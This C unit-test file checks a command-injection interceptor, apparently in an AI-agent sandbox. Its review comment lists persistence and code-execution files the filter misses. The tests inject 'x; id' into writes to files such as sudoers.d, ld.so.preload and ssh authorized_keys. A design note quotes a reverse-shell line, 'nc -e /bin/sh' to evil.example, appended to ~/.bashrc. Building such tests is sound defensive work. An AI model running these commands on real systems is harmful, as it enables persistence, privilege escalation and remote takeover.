/* review25 (session 33), round b on h-shell39 d819f5f (the fix of
 * review25-shell39, which passes there): the files the system runs later
 * are a list of names, and a file copied on is followed for cp, mv, ln
 * and install. Still allowed, each with the input `x; id` in quotes:
 *
 * 1. files read as commands or code later that the list lacks: Debian's
 *    ~/.bash_aliases (sourced by its default ~/.bashrc), ~/.ssh/config
 *    (ProxyCommand, LocalCommand), ~/.ssh/authorized_keys (a key's
 *    command="..."), /etc/sudoers.d/, /etc/ld.so.preload (a library
 *    every program loads), /etc/update-motd.d/ (run by pam_motd at each
 *    login), /etc/logrotate.d/ (postrotate scripts, as root),
 *    /etc/apt/apt.conf.d/ (APT::Update::Pre-Invoke), ~/.npmrc
 *    (script-shell), ~/.gitconfig (core.pager, aliases with '!'),
 *    ~/.vimrc -- 11 of 11;
 * 2. a file copied on by other means, then run: `cat F > G; sh G`, rsync
 *    F G, `xargs -a F -I{} sh -c {}`, and `base64 -d F | sh` after
 *    `echo ... | base64 > F` -- 4 of 4.
 *
 * (A design note, no test: these rules, like `sh -c 'INPUT'` and
 * `eval 'INPUT'` on main, fire only where the input brings a separator;
 * a whole command line written into a start-up file or a cron table --
 * `echo 'nc -e /bin/sh evil.example 4444' >> ~/.bashrc` -- is allowed.)
 */
#include "agent_test.h"

static int line(const char *fmt, const char *input)
{
	const struct moat_policy *p = moat_policy_parse(
	    "{\"interceptors\":{\"command_injection\":{\"mode\":\"block\"}}}", 1, NULL, 0);
	struct moat_request_info ri = {.method = "POST", .endpoint = "/jobs"};
	struct moat_request *r = NULL;
	const char *at = strstr(fmt, "%s");
	char cmd[512];
	int v;

	assert_non_null(p);
	assert_non_null(at);
	snprintf(cmd, sizeof cmd, "%.*s%s%s", (int)(at - fmt), fmt, input, at + 2);
	ri.policy = p;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_policy_release(p);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_JSON, "v", input, strlen(input)), 0);
	v = moat_check_shell(r, cmd, strlen(cmd));
	moat_request_end(r);
	return v;
}

static int count_allowed(const char *const *fmts, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		if (line(fmts[i], "x; id") != MOAT_BLOCK) {
			print_message("allowed: %s\n", fmts[i]);
			bad++;
		}
	return bad;
}

static void a_file_the_system_reads_as_code_later_fires(void **state)
{
	static const char *const f[] = {
	    "echo '%s' >> ~/.bash_aliases",
	    "echo '%s' >> ~/.ssh/config",
	    "echo '%s' >> ~/.ssh/authorized_keys",
	    "echo '%s' > /etc/sudoers.d/app",
	    "echo '%s' >> /etc/ld.so.preload",
	    "echo '%s' > /etc/update-motd.d/99-job",
	    "echo '%s' > /etc/logrotate.d/app",
	    "echo '%s' > /etc/apt/apt.conf.d/99job",
	    "echo '%s' >> ~/.npmrc",
	    "echo '%s' >> ~/.gitconfig",
	    "echo '%s' >> ~/.vimrc",
	};

	(void)state;
	assert_int_equal(count_allowed(f, sizeof f / sizeof f[0]), 0);
}

static void a_file_copied_on_by_other_means_then_run_fires(void **state)
{
	static const char *const f[] = {
	    "echo '%s' > /tmp/j; cat /tmp/j > /tmp/k.sh; sh /tmp/k.sh",
	    "echo '%s' > /tmp/j; rsync /tmp/j /tmp/k.sh; sh /tmp/k.sh",
	    "echo '%s' > /tmp/j.sh; xargs -a /tmp/j.sh -I{} sh -c {}",
	    "echo '%s' | base64 > /tmp/j; base64 -d /tmp/j | sh",
	};

	(void)state;
	assert_int_equal(count_allowed(f, sizeof f / sizeof f[0]), 0);
}

static void text_written_to_an_ordinary_file_stays_allowed(void **state)
{
	(void)state;
	assert_int_equal(line("echo '%s' >> /srv/app/notes/aliases.txt", "x; id"), MOAT_ALLOW);
	assert_int_equal(line("echo '%s' > /tmp/j; cat /tmp/j > /srv/out/report.txt", "x; id"),
	                 MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_file_the_system_reads_as_code_later_fires),
	    cmocka_unit_test(a_file_copied_on_by_other_means_then_run_fires),
	    cmocka_unit_test(text_written_to_an_ordinary_file_stays_allowed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
